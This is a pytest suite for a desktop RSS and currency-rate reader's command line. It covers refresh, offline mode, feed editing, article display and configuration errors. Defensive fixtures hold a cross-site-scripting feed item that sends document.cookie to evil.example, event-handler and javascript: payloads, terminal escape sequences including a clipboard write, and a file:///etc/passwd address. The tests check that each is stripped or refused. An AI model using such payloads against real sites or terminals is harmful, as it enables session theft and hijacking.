"""The ``caravan`` command, run in-process (and as ``python -m desktop_app``) against a local
server, a temporary configuration file and a temporary data directory.
"""

from __future__ import annotations

import json
import locale
import logging
import os
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from contextlib import closing
from datetime import date, datetime
from pathlib import Path

import pytest

from desktop_app import __version__
from desktop_app.cli import _COMMANDS, build_parser, main, parse_arguments
from desktop_app.domain import RateSnapshot
from desktop_app.services.article_view import article_document
from desktop_app.store import articles, feeds
from desktop_app.store import rates as rate_store
from desktop_app.store.db import Database
from desktop_app.store.schema import MIGRATIONS
from tests.conftest import LocalServer, NetworkGuard, Route

REPO = Path(__file__).resolve().parents[2]
RATES_FILE = "open-er-api_latest_USD_2024-08-19.json"
RATES_LINE = (
    "KGS/USD 0.01166  KZT/USD 0.002088  TJS/USD 0.09429  UZS/USD 0.00007869  TMT/USD 0.2857"
)

HOSTILE_RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel>
<title>Hostile Times</title><link>https://hostile.example/</link>
<item>
  <guid isPermaLink="false">calm-1</guid>
  <title>A calm story</title>
  <link>https://hostile.example/calm</link>
  <pubDate>Mon, 19 Aug 2024 08:00:00 GMT</pubDate>
  <description>Nothing to see.</description>
</item>
<item>
  <guid isPermaLink="false">hostile-1</guid>
  <title>Markets &lt;script&gt;alert("title")&lt;/script&gt; today</title>
  <link>https://hostile.example/markets</link>
  <pubDate>Mon, 19 Aug 2024 09:00:00 GMT</pubDate>
  <description><![CDATA[
    <p>The som held steady.</p>
    <script>document.location = "https://evil.example/?" + document.cookie</script>
    <img src="https://hostile.example/chart.png" alt="chart" onerror="alert('img')">
    <p onclick="alert('p')">Click <a href="javascript:alert('link')">here</a>
    or <a href="https://hostile.example/more">read more</a>.</p>
    <iframe src="https://evil.example/frame"></iframe>
  ]]></description>
</item>
</channel></rss>
"""


@pytest.fixture(autouse=True)
def _restore_process_state(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """``main`` sets up logging and the numeric locale for the whole process: undo both."""
    monkeypatch.setenv("LC_ALL", "C")  # numbers are written the same on every machine
    root = logging.getLogger()
    handlers, level = list(root.handlers), root.level
    numeric = locale.setlocale(locale.LC_NUMERIC)
    yield
    for handler in list(root.handlers):
        if handler not in handlers:
            root.removeHandler(handler)
            handler.close()
    for handler in handlers:
        if handler not in root.handlers:
            root.addHandler(handler)
    root.setLevel(level)
    locale.setlocale(locale.LC_NUMERIC, numeric)


class Caravan:
    """Runs ``caravan --config CONFIG --data-dir DATA ...`` in this process."""

    def __init__(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        self.config = tmp_path / "caravan.toml"
        self.data_dir = tmp_path / "data"
        self._capsys = capsys
        self.write_config(rates_url="http://127.0.0.1:9/rates", feed_urls=())

    def write_config(self, rates_url: str, feed_urls: tuple[str, ...]) -> None:
        # The fixtures link to real sites: no article page or image is fetched from them.
        lines = ["[offline]", "images = false", "full_text = false", ""]
        lines += ["[rates]", f'url = "{rates_url}"', ""]
        for url in feed_urls:
            lines += ["[[feeds]]", f'url = "{url}"', ""]
        self.config.write_text("\n".join(lines), encoding="utf-8")

    @property
    def database(self) -> Path:
        return self.data_dir / "caravan.sqlite3"

    def args(self, *command: str) -> list[str]:
        return ["--config", str(self.config), "--data-dir", str(self.data_dir), *command]

    def stderr(self) -> str:
        """What was written to stderr since the last call: for commands argparse ends."""
        return self._capsys.readouterr().err

    def __call__(self, *command: str) -> tuple[int, str, str]:
        self._capsys.readouterr()
        code = main(self.args(*command))
        captured = self._capsys.readouterr()
        return code, captured.out, captured.err


@pytest.fixture
def caravan(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Caravan:
    return Caravan(tmp_path, capsys)


def serve_rates(server: LocalServer, fixtures_dir: Path) -> str:
    return server.serve_file("/rates", fixtures_dir / "rates" / RATES_FILE, "application/json")


@pytest.fixture
def served(caravan: Caravan, http_server: LocalServer, fixtures_dir: Path) -> Caravan:
    """The configuration points at the local server's rates and two real feeds."""
    rates_url = serve_rates(http_server, fixtures_dir)
    natasha = http_server.serve_file("/natasha.xml", fixtures_dir / "feeds-real" / "natasha.xml")
    mint = http_server.serve_file("/livemint.xml", fixtures_dir / "feeds-real" / "livemint.xml")
    caravan.write_config(rates_url, (natasha, mint))
    return caravan


def open_database(caravan: Caravan) -> Database:
    return Database(caravan.database)


# --- version and the module entry point ------------------------------------------------------


def test_version_prints_the_version(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exited:
        main(["--version"])

    assert exited.value.code == 0
    assert capsys.readouterr().out == f"caravan {__version__}\n"


@pytest.mark.parametrize(
    "argv",
    [
        [],
        ["--offline"],
        ["--config", "c.toml", "--data-dir", "data", "--verbose"],
        ["--add-feed", "https://news.example/feed"],
        ["--add-feed", "refresh"],  # a value that is also a command's name
        ["gui", "--offline"],
    ],
)
def test_the_window_options_parse_as_the_full_command_line_does(argv: list[str]) -> None:
    assert vars(parse_arguments(argv)) == vars(build_parser().parse_args(argv))


def test_a_mistyped_command_is_answered_with_the_commands(
    capsys: pytest.CaptureFixture[str],
) -> None:
    with pytest.raises(SystemExit) as exited:
        main(["refrsh"])

    assert exited.value.code == 2
    error = capsys.readouterr().err
    assert "invalid choice: 'refrsh'" in error
    assert "'refresh'" in error


def test_help_lists_the_commands(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exited:
        main(["--help"])

    assert exited.value.code == 0
    assert "import-opml" in capsys.readouterr().out


def test_an_option_without_its_value_is_reported(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exited:
        main(["--data-dir"])

    assert exited.value.code == 2
    assert "--data-dir: expected one argument" in capsys.readouterr().err


def run_module(*args: str) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, "LC_ALL": "C", "PYTHONIOENCODING": "utf-8"}
    return subprocess.run(
        [sys.executable, "-m", "desktop_app", *args],
        cwd=REPO,
        env=environment,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def test_python_dash_m_runs_the_same_command(tmp_path: Path) -> None:
    result = run_module("--version")

    assert (result.returncode, result.stdout) == (0, f"caravan {__version__}\n")


def test_python_dash_m_refreshes_and_prints_the_rates(
    served: Caravan, http_server: LocalServer
) -> None:
    refresh = run_module(*served.args("refresh"))
    assert refresh.returncode == 0, refresh.stderr
    assert refresh.stdout.splitlines()[-1] == "35 new articles, 2/2 feeds ok, rates 2024-08-19"

    rates = run_module(*served.args("rates"))
    assert (rates.returncode, rates.stdout, rates.stderr) == (0, RATES_LINE + "\n", "")


# --- refresh ---------------------------------------------------------------------------------


def test_refresh_prints_a_summary_and_exits_zero(served: Caravan) -> None:
    code, out, err = served("refresh")

    assert code == 0
    assert err == ""
    assert out.splitlines() == [
        "    25 new  Livemint - News",
        "    10 new  Natasha The Robot",
        "  rates      open-er-api: 161 currencies, 2024-08-19",
        "35 new articles, 2/2 feeds ok, rates 2024-08-19",
    ]
    with closing(open_database(served)) as database, closing(database.reader()) as reader:
        assert articles.count_articles(reader) == 35


def test_a_second_refresh_reports_unchanged_feeds(served: Caravan) -> None:
    served("refresh")

    code, out, _ = served("refresh")

    assert code == 0
    assert "  unchanged  Natasha The Robot" in out.splitlines()
    assert "  unchanged  rates (open-er-api)" in out.splitlines()
    assert out.splitlines()[-1] == "0 new articles, 2/2 feeds ok, rates unchanged"


def test_refresh_with_one_failing_feed_still_exits_zero(
    served: Caravan, http_server: LocalServer, fixtures_dir: Path
) -> None:
    natasha = http_server.url("/natasha.xml")
    served.write_config(http_server.url("/rates"), (natasha, http_server.url("/gone.xml")))

    code, out, _ = served("refresh")

    assert code == 0
    assert any(line.startswith("  failed     ") and "HTTP 404" in line for line in out.splitlines())
    assert out.splitlines()[-1] == "10 new articles, 1/2 feeds ok, rates 2024-08-19"


def test_refresh_run_again_and_again_retries_a_failing_feed_once_per_back_off(
    served: Caravan, http_server: LocalServer
) -> None:
    natasha = http_server.url("/natasha.xml")
    http_server.routes["/down.xml"] = Route(b"oops", status=500)
    served.write_config(http_server.url("/rates"), (natasha, http_server.url("/down.xml")))
    served("refresh")
    with closing(open_database(served)) as database, closing(database.reader()) as reader:
        (planned,) = [feed.next_check_at for feed in feeds.list_feeds(reader) if feed.last_error]

    outputs = [served("refresh")[1] for _ in range(3)]

    assert sum(request.path == "/down.xml" for request in http_server.requests) == 2
    waiting = [line for line in outputs[-1].splitlines() if line.startswith("  waiting    ")]
    assert len(waiting) == 1
    assert "already retried once early, next check" in waiting[0]
    assert outputs[-1].splitlines()[-1].endswith("1 failing feed waits for its next check")
    with closing(open_database(served)) as database, closing(database.reader()) as reader:
        (down,) = [feed for feed in feeds.list_feeds(reader) if feed.last_error]
    assert (down.error_count, down.next_check_at) == (1, planned)


def test_refresh_exits_one_when_every_source_fails(caravan: Caravan, fixtures_dir: Path) -> None:
    server = LocalServer()
    server.start()
    rates_url = serve_rates(server, fixtures_dir)
    feed_url = server.serve_file("/feed.xml", fixtures_dir / "feeds-real" / "natasha.xml")
    server.stop()
    caravan.write_config(rates_url, (feed_url,))

    code, out, _ = caravan("refresh")

    assert code == 1
    lines = out.splitlines()
    assert lines[-1] == "0 new articles, 0/1 feeds ok, rates failed"
    assert any(
        line.startswith("  failed     rates (open-er-api): cannot connect") for line in lines
    )


def test_refresh_offline_touches_no_network(served: Caravan, http_server: LocalServer) -> None:
    code, out, err = served("--offline", "refresh")

    assert code == 2  # refused, like every command asked to fetch while offline
    assert "offline" in err
    assert out == ""
    assert http_server.requests == []


def test_every_command_given_offline_works_from_storage_or_says_why_and_never_connects(
    served: Caravan, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    assert served("refresh")[0] == 0  # something stored, while the network is allowed
    listed = json.loads(served("list", "--json")[1])
    article = str(listed[0]["id"])
    with closing(open_database(served)) as database, closing(database.reader()) as reader:
        feed = str(feeds.list_feeds(reader)[0].id)
    opml = tmp_path / "more.opml"
    opml.write_text(
        '<?xml version="1.0"?><opml version="2.0"><body>'
        '<outline type="rss" text="More" xmlUrl="https://more.example/rss"/></body></opml>',
        encoding="utf-8",
    )
    guard: NetworkGuard = request.getfixturevalue("network_guard")  # from here on
    refused = "Caravan was started offline (--offline)"

    ran: set[str] = set()

    def offline(*command: str) -> tuple[int, str, str]:
        ran.add(command[0])
        return served("--offline", *command)

    assert offline("refresh") == (2, "", f"caravan: {refused}: nothing was refreshed\n")
    code, out, err = offline("rates")
    assert (code, out, err) == (0, RATES_LINE + "\n", "")
    code, _, err = offline("rates", "--provider", "nbk")
    assert err.startswith(f"caravan: {refused}: showing the stored rates\n")
    code, _, err = offline("rates", "--official")
    assert err.startswith(f"caravan: {refused}: showing the stored rates\n")
    assert offline("rates", "--history", "KGS")[0] == 0
    assert offline("feeds")[0] == 0
    assert offline("list")[0] == 0
    assert offline("show", article)[0] == 0
    assert offline("show", article, "--html")[0] == 0
    assert offline("export-opml")[0] == 0
    assert offline("import-opml", str(opml))[:2] == (
        0,
        "Imported 1 new feed (0 already subscribed)\n",
    )
    assert offline("edit-feed", feed, "--title", "Renamed", "--full-text", "always")[0] == 0
    offline("add-feed", "https://another.example/feed.xml")  # its words are add-feed's own
    assert offline("remove-feed", feed)[0] == 0
    assert offline("sync") == (2, "", f"caravan: {refused}: nothing was synced\n")
    assert offline("account", "status")[2] == (
        "caravan: no sync account is set up (caravan account add --server URL --user NAME)\n"
    )

    assert ran == set(_COMMANDS), "every command is tried offline"
    assert guard.attempts == []


# --- add-feed --------------------------------------------------------------------------------


def test_add_feed_subscribes_once(caravan: Caravan) -> None:
    url = "https://timesca.com/feed/"

    code, out, _ = caravan(
        "add-feed",
        url,
        "--title",
        "Times of CA",
        "--folder",
        "Central Asia",
        "--offline",
        "--force",
    )
    assert code == 0
    assert out.startswith("Added feed ") and out.rstrip().endswith(url)

    code, out, _ = caravan("add-feed", f"  {url}  ", "--offline")
    assert code == 0
    assert out.startswith("Already subscribed (feed ")

    with closing(open_database(caravan)) as database, closing(database.reader()) as reader:
        subscribed = feeds.list_feeds(reader)
    assert [(f.url, f.title, f.folder) for f in subscribed] == [
        (url, "Times of CA", "Central Asia")
    ]


@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "file:///etc/passwd", "ftp://example.com/feed", "http://", "feed.xml"],
)
def test_add_feed_refuses_an_address_that_is_not_http(caravan: Caravan, address: str) -> None:
    code, out, err = caravan("add-feed", address)

    assert code == 2
    assert out == ""
    assert "is not an http or https address" in err
    with closing(open_database(caravan)) as database, closing(database.reader()) as reader:
        assert feeds.list_feeds(reader) == []


# --- rates -----------------------------------------------------------------------------------


def test_rates_prints_the_ticker_line(served: Caravan) -> None:
    served("refresh")

    code, out, err = served("rates")

    assert (code, out, err) == (0, RATES_LINE + "\n", "")


def test_rates_shows_the_change_against_the_previous_day(served: Caravan) -> None:
    served("refresh")
    yesterday = RateSnapshot(
        "open-er-api",
        date(2024, 8, 18),
        "USD",
        {"KGS": 1 / 86.5, "KZT": 1 / 478.947251, "TJS": 1 / 10.5, "UZS": 1 / 12800, "TMT": 1 / 3.5},
    )
    with closing(open_database(served)) as database:
        database.writer.run(lambda c: rate_store.save_snapshot(c, yesterday))

    code, out, _ = served("rates")

    assert code == 0
    # KGS +0.893 %, KZT unchanged, TJS −0.998 %, UZS +0.727 %, TMT −0.0152 %.
    assert out == (
        "KGS/USD 0.01166 ▲0.89%  KZT/USD 0.002088 0.00%  TJS/USD 0.09429 ▼1.00%  "
        "UZS/USD 0.00007869 ▲0.73%  TMT/USD 0.2857 ▼0.02%\n"
    )


def test_rates_with_nothing_stored_exits_one_with_a_message(caravan: Caravan) -> None:
    code, out, err = caravan("rates")

    assert code == 1
    assert out == ""
    assert "no rates stored yet" in err
    assert "caravan refresh" in err


# --- list and show ---------------------------------------------------------------------------


def test_list_json_gives_articles_newest_first(served: Caravan) -> None:
    served("refresh")

    code, out, _ = served("list", "--json")

    assert code == 0
    listed = json.loads(out)
    assert len(listed) == 35
    assert all(
        set(item) == {"id", "feed", "date", "title", "read", "starred", "link"} for item in listed
    )
    dates = [datetime.fromisoformat(item["date"]) for item in listed]
    assert dates == sorted(dates, reverse=True)
    assert {item["feed"] for item in listed} == {"Natasha The Robot", "Livemint - News"}
    assert all(item["read"] is False and item["starred"] is False for item in listed)
    assert all(item["link"].startswith("http") for item in listed)
    assert len({item["id"] for item in listed}) == 35


def test_list_json_reflects_read_and_starred(served: Caravan) -> None:
    served("refresh")
    newest = json.loads(served("list", "--json")[1])[0]["id"]
    with closing(open_database(served)) as database:
        database.writer.run(lambda c: articles.set_read(c, [newest], True))
        database.writer.run(lambda c: articles.set_starred(c, [newest], True))

    first = json.loads(served("list", "--json", "--limit", "1")[1])

    assert len(first) == 1
    assert (first[0]["id"], first[0]["read"], first[0]["starred"]) == (newest, True, True)


def test_list_on_an_empty_database_prints_an_empty_list(caravan: Caravan) -> None:
    assert caravan("list", "--json")[:2] == (0, "[]\n")
    assert caravan("list")[:2] == (0, "")


def test_list_as_text_shows_one_line_per_article(served: Caravan) -> None:
    served("refresh")

    code, out, _ = served("list", "--limit", "5")

    assert code == 0
    lines = out.splitlines()
    assert len(lines) == 5
    listed = json.loads(served("list", "--json", "--limit", "5")[1])
    for line, item in zip(lines, listed, strict=True):
        assert line.split()[0] == str(item["id"])
        assert line.endswith(item["title"])
        assert " N " in line  # unread


@pytest.mark.parametrize("limit", ["-1", "-35", "many"])
def test_list_refuses_a_limit_that_is_not_a_count(served: Caravan, limit: str) -> None:
    served("refresh")

    with pytest.raises(SystemExit) as exited:
        served("list", "--limit", limit)

    assert exited.value.code == 2
    assert "--limit" in served.stderr()


def test_list_with_limit_zero_lists_every_article(served: Caravan) -> None:
    served("refresh")

    assert len(json.loads(served("list", "--json", "--limit", "0")[1])) == 35


def test_options_may_follow_the_command(
    served: Caravan, capsys: pytest.CaptureFixture[str]
) -> None:
    served("refresh")

    options = ["--config", str(served.config), "--data-dir", str(served.data_dir)]
    code = main(["list", "--json", *options])

    assert code == 0
    assert len(json.loads(capsys.readouterr().out)) == 35


@pytest.fixture
def hostile(caravan: Caravan, http_server: LocalServer, fixtures_dir: Path) -> int:
    """A refreshed feed whose second item carries a script and event handlers; its id."""
    http_server.routes["/hostile.xml"] = Route(HOSTILE_RSS, "application/rss+xml")
    caravan.write_config(serve_rates(http_server, fixtures_dir), (http_server.url("/hostile.xml"),))
    assert caravan("refresh")[0] == 0
    listed = json.loads(caravan("list", "--json")[1])
    assert [item["title"] for item in listed][1] == "A calm story"
    return int(listed[0]["id"])


def test_show_html_prints_exactly_what_the_reader_pane_receives(
    caravan: Caravan, hostile: int
) -> None:
    code, out, err = caravan("show", str(hostile), "--html")

    assert (code, err) == (0, "")
    with closing(open_database(caravan)) as database, closing(database.reader()) as reader:
        article = articles.get_article(reader, hostile)
        assert article is not None
        assert out == article_document(reader, article)


def test_show_html_carries_no_script_even_when_the_feed_item_had_one(
    caravan: Caravan, hostile: int
) -> None:
    out = caravan("show", str(hostile), "--html")[1].lower()

    assert "<script" not in out
    assert "onerror" not in out
    assert "onclick" not in out
    assert "javascript:" not in out
    assert "<iframe" not in out
    assert "evil.example" not in out
    # What is not hostile survives.
    assert "the som held steady." in out
    assert 'href="https://hostile.example/more"' in out
    assert '<span class="missing-image">[chart]</span>' in out  # not cached: its alt text


def test_show_prints_the_article_as_text(caravan: Caravan, hostile: int) -> None:
    code, out, _ = caravan("show", str(hostile))

    assert code == 0
    lines = out.splitlines()
    assert lines[1].startswith("Hostile Times · 2024-08-")
    assert lines[2] == "https://hostile.example/markets"
    assert "The som held steady." in out
    assert "<p>" not in out
    assert "document.cookie" not in out


SHAPED_RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel>
<title>Shaped News</title><link>https://shaped.example/</link>
<item>
  <guid isPermaLink="false">shaped-1</guid>
  <title>Rates this week</title>
  <link>https://shaped.example/rates</link>
  <pubDate>Mon, 19 Aug 2024 09:00:00 GMT</pubDate>
  <description><![CDATA[
    <h2>Rates this week</h2>
    <p>The som held steady against the dollar for a third week, while the tenge and the
    sum moved in opposite directions after the central banks' meetings on Thursday.</p>
    <h3>What moved</h3>
    <ul><li>The tenge rose.</li><li>The sum fell.</li></ul>
    <p>More next week.</p>
  ]]></description>
</item>
</channel></rss>
"""


def test_show_prints_the_article_with_its_paragraphs_lists_and_headings(
    caravan: Caravan, http_server: LocalServer, fixtures_dir: Path
) -> None:
    http_server.routes["/shaped.xml"] = Route(SHAPED_RSS, "application/rss+xml")
    caravan.write_config(serve_rates(http_server, fixtures_dir), (http_server.url("/shaped.xml"),))
    assert caravan("refresh")[0] == 0
    article_id = json.loads(caravan("list", "--json")[1])[0]["id"]

    code, out, err = caravan("show", str(article_id))

    assert (code, err) == (0, "")
    lines = out.splitlines()
    assert lines[0] == "Rates this week"
    assert lines[2] == "https://shaped.example/rates"
    assert lines[3] == ""
    body = lines[4:]
    assert body[0].startswith("The som held steady against the dollar")
    assert 1 < body.index("") <= 3  # the paragraph, wrapped, then a blank line
    assert all(len(line) <= 80 for line in body)
    assert body[body.index("What moved") :] == [
        "What moved",
        "----------",
        "",
        "- The tenge rose.",
        "- The sum fell.",
        "",
        "More next week.",
    ]
    assert "Rates this week" not in body  # the reader hides a headline repeating the title


def test_show_an_unknown_id_exits_one(caravan: Caravan) -> None:
    code, out, err = caravan("show", "999999")

    assert code == 1
    assert out == ""
    assert "no article with id 999999" in err


# --- files and errors ------------------------------------------------------------------------


def test_commands_write_only_into_the_given_directories(tmp_path: Path, served: Caravan) -> None:
    served("refresh")
    served("list")

    assert served.database.is_file()
    assert (served.data_dir / "logs" / "caravan.log").is_file()
    # conftest points every XDG directory under tmp_path/xdg: nothing was created there.
    assert not (tmp_path / "xdg").exists()


def test_a_database_from_a_newer_caravan_exits_two_with_a_message(caravan: Caravan) -> None:
    caravan.data_dir.mkdir()
    with closing(sqlite3.connect(caravan.database)) as connection:
        connection.execute(f"PRAGMA user_version = {len(MIGRATIONS) + 1}")

    code, _, err = caravan("list")

    assert code == 2
    assert "newer Caravan" in err


def test_a_damaged_database_file_is_set_aside_with_a_message(caravan: Caravan) -> None:
    caravan.data_dir.mkdir()
    caravan.database.write_bytes(b"not a database " * 500)

    code, _, err = caravan("rates")

    assert code == 1  # a fresh database: no rates yet
    assert "database was damaged" in err and "There was no backup" in err
    assert "Traceback" not in err
    assert list(caravan.data_dir.glob("caravan.sqlite3.damaged-*"))


@pytest.mark.parametrize("where", ["file", "inside a file"])
def test_a_data_directory_that_cannot_be_one_exits_two_with_its_path(
    caravan: Caravan, tmp_path: Path, where: str
) -> None:
    a_file = tmp_path / "notes.txt"
    a_file.write_text("my notes\n")
    data_dir = a_file if where == "file" else a_file / "data"

    code, out, err = caravan("--data-dir", str(data_dir), "list")

    assert (code, out) == (2, "")
    assert len(err.splitlines()) == 1
    assert str(data_dir) in err
    assert "Traceback" not in err
    assert a_file.read_text() == "my notes\n"


def test_a_configuration_path_that_is_a_directory_exits_two_with_its_path(
    caravan: Caravan, tmp_path: Path
) -> None:
    folder = tmp_path / "settings"
    folder.mkdir()

    code, out, err = caravan("--config", str(folder), "list")

    assert (code, out) == (2, "")
    assert err.splitlines() == [f"caravan: {folder} is a directory, not a configuration file"]
    assert list(tmp_path.glob("settings.broken-*")) == []


def test_an_unreadable_configuration_is_reported_once(caravan: Caravan) -> None:
    caravan.config.write_text("rates = [\n")

    code, _, err = caravan("list")

    assert code == 0
    assert len(err.splitlines()) == 1
    assert "cannot read the configuration" in err
    assert "using defaults" in err


def test_configuration_problems_are_reported_on_stderr(caravan: Caravan) -> None:
    caravan.config.write_text('[rates]\nurl = "ftp://rates.example/"\ncolour = "red"\n')

    code, _, err = caravan("list")

    assert code == 0
    assert "rates.url" in err
    assert "rates.colour" in err


def subscribed(caravan: Caravan) -> list[str]:
    with closing(open_database(caravan)) as database, closing(database.reader()) as reader:
        return [feed.url for feed in feeds.list_feeds(reader)]


def test_a_broken_configuration_file_changes_nothing_stored_and_is_reported_once(
    caravan: Caravan, http_server: LocalServer, fixtures_dir: Path
) -> None:
    natasha = http_server.serve_file("/natasha.xml", fixtures_dir / "feeds-real" / "natasha.xml")
    caravan.write_config(serve_rates(http_server, fixtures_dir), (natasha,))
    caravan("refresh")
    good = caravan.config.read_bytes()
    broken = good + b"[ticker\nspeed = 90\n"
    caravan.config.write_bytes(broken)

    runs = [caravan("refresh"), caravan("--verbose", "refresh"), caravan("feeds")]

    assert subscribed(caravan) == [natasha], "the defaults' [[feeds]] were subscribed"
    assert caravan.config.read_bytes() == broken
    (copy,) = caravan.config.parent.glob("caravan.toml.broken-*")
    assert copy.read_bytes() == broken
    for _, _, err in runs:
        reported = [line for line in err.splitlines() if "cannot read the configuration" in line]
        assert len(reported) == 1, err
        assert str(copy) in reported[0]
    caravan.config.write_bytes(good)  # corrected: the user's feeds, and only those
    caravan("refresh")
    assert subscribed(caravan) == [natasha]


def test_one_bad_value_falls_back_alone_and_the_good_feeds_are_subscribed(
    caravan: Caravan, http_server: LocalServer, fixtures_dir: Path
) -> None:
    natasha = http_server.serve_file("/natasha.xml", fixtures_dir / "feeds-real" / "natasha.xml")
    caravan.config.write_text(
        "[offline]\nimages = false\nfull_text = false\n"
        "[refresh]\ninterval_minutes = -5\n"
        f'[rates]\nurl = "{serve_rates(http_server, fixtures_dir)}"\n'
        f'[[feeds]]\nurl = "{natasha}"\n'
        '[[feeds]]\nurl = "ftp://files.example/feed.xml"\n',
        encoding="utf-8",
    )

    code, out, err = caravan("--verbose", "refresh")

    assert code == 0
    assert "10 new articles, 1/1 feeds ok, rates 2024-08-19" in out
    assert subscribed(caravan) == [natasha]
    for key in ("refresh.interval_minutes", "feeds[2].url"):
        assert len([line for line in err.splitlines() if f": {key}: " in line]) == 1, err
    assert not list(caravan.config.parent.glob("caravan.toml.broken-*"))


def test_edit_feed_sets_the_full_text_mode_and_feeds_shows_it(
    caravan: Caravan, http_server: LocalServer, fixtures_dir: Path
) -> None:
    url = http_server.serve_file("/natasha.xml", fixtures_dir / "feeds-real" / "natasha.xml")
    assert caravan("add-feed", url)[0] == 0

    assert caravan("edit-feed", "1", "--full-text", "always")[:2] == (
        0,
        "Feed 1 updated: full text always\n",
    )
    assert "full text: always" in caravan("feeds")[1]
    assert caravan("edit-feed", "1", "--full-text", "never")[0] == 0
    assert "full text: never" in caravan("feeds")[1]
    assert caravan("edit-feed", "1", "--full-text", "auto")[0] == 0
    assert "full text" not in caravan("feeds")[1]
    with pytest.raises(SystemExit):
        caravan("edit-feed", "1", "--full-text", "sometimes")


# --- what every command owes: no traceback, no ignored option --------------------------------


@pytest.mark.parametrize(
    "command",
    [
        ["show", "99999999999999999999"],
        ["edit-feed", "99999999999999999999", "--title", "x"],
        ["remove-feed", "99999999999999999999"],
        ["show", "0"],
        ["remove-feed", "-3"],
    ],
)
def test_an_id_no_row_can_have_is_refused_as_usage(caravan: Caravan, command: list[str]) -> None:
    with pytest.raises(SystemExit) as exited:
        caravan(*command)

    assert exited.value.code == 2
    error = caravan.stderr()
    assert "is not an id" in error
    assert "Traceback" not in error


@pytest.mark.parametrize("address", ["http://[::1", "https://exa mple.com/feed\n", "http://:80/"])
def test_add_feed_refuses_a_malformed_address_without_a_traceback(
    caravan: Caravan, address: str
) -> None:
    code, out, err = caravan("add-feed", address)

    assert (code, out) == (2, "")
    assert "is not an http or https address" in err


def test_the_windows_add_feed_option_with_a_command_is_refused_not_ignored(
    caravan: Caravan,
) -> None:
    code, out, err = caravan("--add-feed", "https://news.example/feed", "list")

    assert (code, out) == (2, "")
    assert "--add-feed" in err and "caravan add-feed URL" in err
    assert not caravan.database.exists()


ESCAPE_FEED = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "Evil \u001b]0;pwned\u0007 News",
    "items": [
        {
            "id": "1",
            "url": "https://evil.example/1",
            "title": "Calm \u001b[2J\u001b[31mred",
            "content_text": "Body \u001b]52;c;ZXZpbA==\u0007 text \u009b2J",
            "date_published": "2024-08-19T09:00:00Z",
        }
    ],
}


def test_control_characters_from_a_feed_never_reach_the_terminal(
    caravan: Caravan, http_server: LocalServer, fixtures_dir: Path
) -> None:
    http_server.routes["/evil.json"] = Route(
        json.dumps(ESCAPE_FEED).encode(), "application/feed+json"
    )
    caravan.write_config(serve_rates(http_server, fixtures_dir), (http_server.url("/evil.json"),))
    assert caravan("refresh")[0] == 0
    article_id = json.loads(caravan("list", "--json")[1])[0]["id"]

    for command in (["refresh"], ["list"], ["feeds"], ["show", str(article_id)]):
        code, out, err = caravan(*command)
        assert code == 0
        assert not {"\x1b", "\x07", "\x9b"} & set(out + err), command
    assert "Calm \ufffd[2J\ufffd[31mred" in caravan("list")[1]
    assert "Body \ufffd]52;c;ZXZpbA==\ufffd text \ufffd2J" in caravan("show", str(article_id))[1]


def test_a_configuration_inside_a_file_exits_two_instead_of_running_on_defaults(
    caravan: Caravan, tmp_path: Path
) -> None:
    a_file = tmp_path / "notes.txt"
    a_file.write_text("my notes\n")

    code, out, err = caravan("--config", str(a_file / "caravan.toml"), "list")

    assert (code, out) == (2, "")
    assert err == (
        f"caravan: cannot create the configuration {a_file / 'caravan.toml'}: "
        f"{a_file} is not a directory\n"
    )
